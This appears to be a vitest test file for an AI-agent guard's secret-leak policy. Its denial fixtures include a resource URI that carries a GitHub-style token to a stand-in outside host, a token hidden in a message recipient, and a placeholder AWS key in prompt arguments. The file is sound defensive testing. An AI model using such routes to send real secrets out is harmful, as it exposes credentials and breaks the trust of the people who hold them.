/**
 * A secret leaves through every request an agent sends to a server, not only tools/call: prompts/get carries
 * arguments, and resources/read a URI the server reads (a template such as `https://…/{q}`). The default book's
 * `no-secret-leak` governed tool calls and messages only, so a key in a prompt's arguments or a resource URI was
 * allowed (fails before).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import '../../src/detectors/index.js';
import type { Interaction } from '../../src/core/types.js';
import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');

describe('default book: a secret sent through a prompt request or a resource URI', () => {
  let guard: BuiltGuard;
  let n = 0;
  const who = () => ({ agent: `agent-${++n}`, session: `session-${n}`, profile: {} });
  beforeAll(async () => {
    guard = await buildGuard({ policy: DEFAULT_BOOK, store: ':memory:' });
  });
  afterAll(async () => guard?.close());

  it.each<[string, Record<string, unknown>]>([
    ['prompts/get arguments', { kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { text: 'key AKIAIOSFODNN7EXAMPLE' } }],
    ['a resource URI', { kind: 'resource_request', server: 'web', uri: 'https://logs.elsewhere.example/in?k=ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789' }],
    ["a message's recipient", { kind: 'message', sender: 'agent-x', recipient: 'ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789@relay.example', content: [{ type: 'text', text: 'hello' }] }],
  ])('is denied through %s', async (_route, i) => {
    const d = await guard.pipeline.check({ ...who(), ...i } as Interaction);
    expect(d.decision).toBe('deny');
    expect(d.rules).toContain('no-secret-leak');
  });

  it.each<[string, Record<string, unknown>]>([
    ['prompts/get arguments', { kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { path: 'notes.md' } }],
    ['a resource URI', { kind: 'resource_request', server: 'ws', uri: 'workspace://files/notes.md' }],
    ['a resource URI naming a commit', { kind: 'resource_request', server: 'git', uri: 'git://repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8' }],
    ['a message to an ordinary recipient', { kind: 'message', sender: 'agent-x', recipient: 'reviewer', content: [{ type: 'text', text: 'hello' }] }],
  ])('allows %s without one (control)', async (_route, i) => {
    expect((await guard.pipeline.check({ ...who(), ...i } as Interaction)).decision).toBe('allow');
  });
});
